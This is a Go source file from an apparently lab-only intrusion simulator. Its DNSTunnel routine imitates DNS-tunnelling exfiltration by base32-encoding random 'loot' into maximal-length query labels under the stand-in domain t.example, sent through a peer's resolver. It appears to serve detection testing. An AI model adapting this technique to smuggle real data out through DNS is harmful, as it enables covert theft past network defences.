package intrusion

import (
	"context"
	"encoding/base32"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/platelet-sdn/platelet/lab/agent"
	"github.com/platelet-sdn/platelet/lab/benign/resolver"
	"golang.org/x/net/dns/dnsmessage"
)

const (
	// tunnelLimit bounds the queries of one play.
	tunnelLimit = 10_000
	// tunnelDomain is whose name server the intruders run, so to speak.
	tunnelDomain = "t.example."
	// tunnelPiece is how many octets of loot one name carries.
	tunnelPiece = 110
	// labelMax is the longest label that DNS allows.
	labelMax = 63
)

// DNSTunnel carries random octets off in the names of DNS queries, at the
// stage's rate, through the resolver of the first peer: the labels are long
// and never the same.
func DNSTunnel(ctx context.Context, s *Stage) error {
	var own servers
	defer own.close()
	to, err := s.tunnelEnd(&own)
	if err != nil {
		return err
	}
	from := s.attacker()
	dialed, err := from.Dial(ctx, "udp", agentAny, at(to, resolver.Port))
	if err != nil {
		return err
	}
	var answered atomic.Uint64
	var reader sync.WaitGroup
	defer reader.Wait()
	defer dialed.Close()
	reader.Go(func() { countReplies(dialed, &answered) })
	var asked atomic.Uint64
	err = s.attempts(ctx, s.limit(tunnelLimit), func(i int) job {
		name := tunnelName(s.Rand, i)
		return func(context.Context) {
			a := agent.Action{
				Agent: from.Node, Action: "query", From: from.Addr(), To: to.Addr(), Proto: "udp", Port: resolver.Port,
				Note: fmt.Sprintf("%d answered so far", answered.Load()),
			}
			query, err := resolver.Query(uint16(i), name, dnsmessage.TypeTXT)
			if err != nil {
				return // cannot be: the name is made to fit
			}
			a.Time = time.Now()
			if n, err := dialed.Write(query); err == nil {
				a.Packets, a.Bytes = 1, uint64(n)
				asked.Add(1)
			}
			s.Record(a)
		}
	})
	if err == nil {
		err = awaitReplies(ctx, &asked, &answered)
	}
	return ended(ctx, err)
}

// awaitReplies waits for the last answers, not for ever.
func awaitReplies(ctx context.Context, asked, answered *atomic.Uint64) error {
	deadline := soon()
	for answered.Load() < asked.Load() && time.Now().Before(deadline) {
		if err := agent.Wait(ctx, 5*time.Millisecond); err != nil {
			return err
		}
	}
	return nil
}

// tunnelEnd is the resolver's station: the first peer's, or the victim's where
// there is none. Where nobody answers DNS there, a resolver of ours does.
func (s *Stage) tunnelEnd(own *servers) (*agent.Station, error) {
	node := s.Victim
	if len(s.Peers) > 0 {
		node = s.Peers[0]
	}
	st, err := s.open(node)
	if err != nil {
		return nil, err
	}
	c, err := st.ListenUDP(at(st, resolver.Port))
	if errors.Is(err, syscall.EADDRINUSE) {
		return st, nil
	}
	if err != nil {
		return nil, fmt.Errorf("resolver: %w", err)
	}
	var reader sync.WaitGroup
	reader.Go(func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := c.ReadFrom(buf)
			if errors.Is(err, net.ErrClosed) {
				return
			}
			if err != nil {
				continue
			}
			if reply, err := resolver.Answer(buf[:n]); err == nil {
				_, _ = c.WriteTo(reply, from) // lost is lost, as with any DNS
			}
		}
	})
	own.stop = append(own.stop, func() { _ = c.Close(); reader.Wait() })
	return st, nil
}

// countReplies counts what comes back until the socket is closed.
func countReplies(c net.Conn, answered *atomic.Uint64) {
	buf := make([]byte, 1500)
	for {
		n, err := c.Read(buf)
		if errors.Is(err, net.ErrClosed) {
			return
		}
		if err != nil {
			continue // such as a port unreachable
		}
		if _, ok := resolver.Reply(buf[:n]); ok {
			answered.Add(1)
		}
	}
}

// tunnelName makes the name of a query: a number and random octets in labels
// as long as they may be.
func tunnelName(r *rand.Rand, i int) string {
	loot := make([]byte, tunnelPiece)
	for j := range loot {
		loot[j] = byte(r.Uint32())
	}
	text := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(loot))
	var name strings.Builder
	fmt.Fprintf(&name, "%x.", i)
	for len(text) > 0 {
		n := min(labelMax, len(text))
		name.WriteString(text[:n] + ".")
		text = text[n:]
	}
	return name.String() + tunnelDomain
}
